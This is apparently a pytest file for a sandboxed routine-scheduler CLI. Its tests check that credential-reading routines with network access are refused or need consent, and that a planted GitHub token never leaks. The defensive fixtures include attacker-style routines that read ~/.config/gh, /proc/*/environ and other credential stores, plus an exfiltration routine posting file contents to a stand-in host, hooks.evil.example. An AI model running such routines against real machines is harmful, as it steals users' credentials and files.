"""Credentials and the capability card through the real CLI, as the attacker ran them: a
gallery routine that declares a credential store with the network on is refused by
`validate`; one that reads and reaches the network is installed only when someone agrees;
`enable`, `validate` and `create --from` show what a routine may do; and a run of a routine
whose declared folder holds a planted gh token, in the real sandbox, sees nothing of it."""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest

from sandbox.overlay import quota_in_force
from supervisor.engine.runcgroup import host_limits
from tests.cli.cli_helpers import Cli, OnPty

HEAD = '[routine]\nkind = "command"\n[schedule]\ncron = "0 6 * * *"\n[command]\n'

READS_AND_CONNECTS = HEAD + 'run = "ls ~/notes"\nhome = ["~/notes"]\nnetwork = true\n'

GRANT = (
    HEAD + 'run = "gh api /notifications"\n'
    '[[command.credentials]]\npath = "~/.config/gh"\nhosts = ["api.github.com", "github.com"]\n'
)


@pytest.mark.parametrize(
    ("declared", "key"),
    [
        ('home = ["~/.config"]', "[command].home[0]"),
        ('home = ["~/.config/gh"]', "[command].home[0]"),
        ('home = ["~/.azure"]', "[command].home[0]"),
        ('home = ["~/.npmrc"]', "[command].home[0]"),
        ('home = ["~/.pypirc"]', "[command].home[0]"),
        ('home = ["~/.config/gcloud"]', "[command].home[0]"),
    ],
)
def test_validate_refuses_what_the_attacker_declared(cli: Cli, declared: str, key: str) -> None:
    path = cli.write("thief", HEAD + f'run = "cat ~/*"\n{declared}\nnetwork = true\n')
    res = cli("validate", str(path))
    assert res.returncode == 1, res.stdout
    assert res.stdout.startswith(f"{path}: {key}: "), res.stdout
    assert "OK" not in res.stdout


def test_validate_refuses_reading_proc_environ(cli: Cli) -> None:
    text = (
        '[schedule]\ncron = "0 6 * * *"\n[agent]\nroute = "ollama"\nsystem = "x"\n'
        'tools = ["read:/proc/*/environ"]\n'
    )
    path = cli.write("environ", text)
    res = cli("validate", str(path))
    assert res.returncode == 1
    assert f'{path}: [agent].tools[0]: "/proc/*/environ" can reach /proc' in res.stdout


def test_validate_refuses_network_true_beside_a_credential(cli: Cli) -> None:
    path = cli.write("both", GRANT.replace("[[command", "network = true\n[[command", 1))
    res = cli("validate", str(path))
    assert res.returncode == 1
    assert f"{path}: [command].network: network = true cannot go with " in res.stdout


def test_validate_prints_the_card_of_a_grant(cli: Cli) -> None:
    path = cli.write("github", GRANT)
    res = cli("validate", str(path))
    assert res.returncode == 0, res.stdout
    lines = res.stdout.splitlines()  # after the warnings (no title, no summary)
    assert lines[lines.index(f"{path}: OK") :] == [
        f"{path}: OK",
        "  reads        nothing of your files",
        "  credentials  ~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
        "github.com (its hosts)",
        "  network      only api.github.com, github.com (HTTP and HTTPS, through a proxy)",
        "  environment  HOME, PATH, TERM, LANG only (no secret); and the egress proxy's address "
        "(HTTP_PROXY, …) where it reaches the network",
        "  actions      none",
        f"  limits       {host_limits()[1]}",  # this host's (no daemon runs here)
        f"  disk quota   {quota_in_force()[1]}",  # likewise (sandbox/overlay.py)
    ]
    [obj] = [json.loads(line) for line in cli("validate", "--json", str(path)).stdout.splitlines()]
    assert obj["card"][1] == {
        "label": "credentials",
        "text": "~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
        "github.com (its hosts)",
    }


def test_install_without_a_terminal_needs_yes_for_a_routine_that_reads_and_connects(
    cli: Cli, tmp_path: Path
) -> None:
    source = tmp_path / "reader.toml"
    source.write_text(READS_AND_CONNECTS)
    res = cli("install", str(source))
    assert res.returncode == 2
    assert "reader reads your files and can reach the network" in res.stderr
    assert "add --yes" in res.stderr
    assert "~/notes (its shell commands, read-only)" in res.stdout  # the card came first
    assert not (cli.routines / "reader.toml").exists()
    res = cli("install", str(source), "--yes")
    assert res.returncode == 0, res.stderr
    assert (cli.routines / "reader.toml").exists()
    # Reading with the network off is no reason to ask.
    source.write_text(READS_AND_CONNECTS.replace("network = true\n", ""))
    res = cli("install", str(source), "--force")
    assert res.returncode == 0, res.stderr
    assert "no: its shell commands cannot reach the network" in res.stdout


@pytest.mark.parametrize(("answer", "code"), [("n", 1), ("y", 0)])
def test_install_on_a_terminal_asks_first(
    cli: Cli, on_pty: OnPty, tmp_path: Path, answer: str, code: int
) -> None:
    source = tmp_path / "reader.toml"
    source.write_text(READS_AND_CONNECTS)
    run = on_pty("install", str(source))
    shown = run.read_until("Install it? [y/N]")
    assert "YES: its command can reach the internet" in shown
    run.send(answer + "\n")
    assert run.wait() == code, run.text
    assert (cli.routines / "reader.toml").exists() is (code == 0)


def test_enable_shows_the_card(cli: Cli) -> None:
    cli.write("github", GRANT)
    res = cli("enable", "github")
    assert res.returncode == 0, res.stderr
    assert (
        "  credentials  ~/.config/gh (GitHub CLI login) → its calls can reach: api.github.com, "
        "github.com (its hosts)" in res.stdout.splitlines()
    )


def test_create_from_shows_the_card(cli: Cli) -> None:
    cli.write("github", GRANT)
    res = cli("create", "my-github", "--from", "github")
    assert res.returncode == 0, res.stderr
    assert "  network      only api.github.com, github.com" in res.stdout


def test_a_run_cannot_read_a_gh_token_planted_in_its_declared_folder(
    cli: Cli, tmp_path: Path, not_root: None
) -> None:
    """The chain end to end: `run --no-daemon` of a command routine in the real sandbox."""
    token = "ghp_" + secrets.token_hex(16)
    home = tmp_path / "home"
    (home / "proj/.config/gh").mkdir(parents=True)
    (home / "proj/.config/gh/hosts.yml").write_text(f"github.com:\n  oauth_token: {token}\n")
    (home / "proj/.gh_token").write_text(token)
    (home / "proj/notes.md").write_text("ordinary-notes-content\n")
    (home / ".config").mkdir()
    (home / ".config/gh").symlink_to(home / "proj/.config/gh")  # gh's login lives in ~/proj
    cli.write(
        "peek",
        HEAD + 'run = "cat ~/proj/notes.md; grep -r oauth_token ~/proj; cat ~/proj/.gh_token; '
        'cat ~/proj/.config/gh/hosts.yml; true"\nhome = ["~/proj"]\n',
    )
    res = cli("run", "peek", "--no-daemon", env={"HOME": str(home)})
    assert res.returncode == 0, res.stdout + res.stderr
    assert "ordinary-notes-content" in res.stdout
    assert token not in res.stdout + res.stderr
    for f in cli.home.rglob("*"):  # not in an output, a run log or the ledger either
        if f.is_file():
            assert token.encode() not in f.read_bytes(), f


def test_a_granted_credential_reaches_the_run_and_no_record(
    cli: Cli, tmp_path: Path, not_root: None
) -> None:
    token = "ghp_" + secrets.token_hex(16)
    home = tmp_path / "home"
    (home / ".config/gh").mkdir(parents=True)
    (home / ".config/gh/hosts.yml").write_text(f"github.com:\n  oauth_token: {token}\n")
    cli.write("github", GRANT.replace("gh api /notifications", "wc -c < ~/.config/gh/hosts.yml"))
    res = cli("run", "github", "--no-daemon", env={"HOME": str(home)})
    assert res.returncode == 0, res.stdout + res.stderr
    size = len(f"github.com:\n  oauth_token: {token}\n")
    assert str(size) in res.stdout
    for f in cli.home.rglob("*"):
        if f.is_file():
            assert token.encode() not in f.read_bytes(), f


def test_install_of_a_credential_grant_names_the_credential_in_its_question(
    cli: Cli, tmp_path: Path
) -> None:
    """The card's reads line may say "nothing of your files" beside a credential line: the
    refusal must not then claim only files are read."""
    source = tmp_path / "notifier.toml"
    source.write_text(GRANT)
    res = cli("install", str(source))
    assert res.returncode == 2
    assert "notifier reads your files or credentials and can reach the network" in res.stderr


def test_install_asks_for_a_routine_that_reads_and_posts_its_output_away(
    cli: Cli, tmp_path: Path
) -> None:
    """`network` off, but the output is a webhook to an outside host: what the routine read
    leaves the machine all the same, so the card names the host and install asks."""
    source = tmp_path / "exfil.toml"
    source.write_text(
        HEAD + 'run = "cat ~/work/*"\nhome = ["~/work"]\n'
        '[output]\ntype = "webhook"\nurl = "https://hooks.evil.example/t/SECRET"\n'
    )
    res = cli("install", str(source))
    assert res.returncode == 2, res.stdout + res.stderr
    assert "exfil reads your files and sends its output to hooks.evil.example" in res.stderr
    assert "POSTed to https://hooks.evil.example/… (leaves this machine)" in res.stdout
    assert not (cli.routines / "exfil.toml").exists()
